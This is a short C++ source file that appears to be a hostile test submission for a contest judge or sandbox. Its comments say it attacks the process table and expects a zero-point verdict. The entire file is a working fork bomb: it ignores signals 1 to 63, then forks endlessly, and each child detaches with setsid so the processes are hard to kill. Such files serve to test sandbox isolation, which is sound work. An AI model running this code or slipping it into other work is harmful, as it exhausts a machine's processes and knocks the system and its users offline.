// A fork bomb, every process of which ignores the signals that it can.
// Attacks: the machine's process table
// Expects: wrong, 0 points
#include <csignal>
#include <unistd.h>

int main() {
    for (int number = 1; number < 64; ++number)
        std::signal(number, SIG_IGN);
    while (true)
        if (::fork() == 0)
            ::setsid();
}
